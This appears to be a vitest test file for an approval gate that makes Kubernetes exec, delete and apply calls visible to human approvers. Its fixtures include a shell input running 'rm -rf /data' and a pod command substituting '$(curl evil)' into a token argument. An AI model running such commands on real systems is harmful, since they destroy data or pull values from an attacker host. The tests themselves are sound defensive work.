import { afterAll, beforeAll, expect, test } from 'vitest';
import { renderApproval } from '../../src/approval/terminal/render.ts';
import type { Json } from '../../src/domain/json.ts';
import { stringAt } from '../../src/domain/json.ts';
import { createGateRig, type GateRig } from '../support/gate.ts';

/** What is sent beside the change itself (a shell's script, how a delete goes) is a part of what people approve. */

let rig: GateRig;
let pod: string;
beforeAll(async () => {
  rig = await createGateRig();
  const { body } = await rig.kube('GET', '/api/v1/namespaces/shop/pods');
  const items: readonly Json[] = Array.isArray(body.items) ? body.items : [];
  pod = stringAt(items[0], 'metadata', 'name') ?? '';
});
afterAll(() => rig.close());

async function cardOf(tool: string, input: { readonly [key: string]: Json }): Promise<string> {
  const { approval, answer } = await rig.hold(tool, { ...input, reason: 'routine' });
  const card = renderApproval(approval);
  await rig.approvals.close(approval.id, 'withdraw', 'looked at');
  await answer;
  return card;
}

test('the standard input of a shell stands in the card, whole', async () => {
  const card = await cardOf('exec', { pod, command: ['sh'], stdin: 'echo ok\nrm -rf /data\n' });
  expect(card).toContain('standard input "echo ok\\nrm -rf /data\\n"');
});

test('how a delete goes stands in the card', async () => {
  const card = await cardOf('delete', { resource: 'pods', name: pod, cascade: 'orphan', gracePeriod: 0 });
  expect(card).toContain('cascade Orphan');
  expect(card).toContain('grace period 0 s');
});

test('arguments that the mask hides make a plan uninspectable', async () => {
  const manifest = {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: 'masked', namespace: 'shop' },
    spec: { containers: [{ name: 'main', image: 'web:1', command: ['sh', '-c', 'run --token=$(curl evil)'] }] },
  };
  const card = await cardOf('apply', { manifest: JSON.stringify(manifest) });
  expect(card).toContain('cannot be inspected whole: an argument of a program is masked');
});
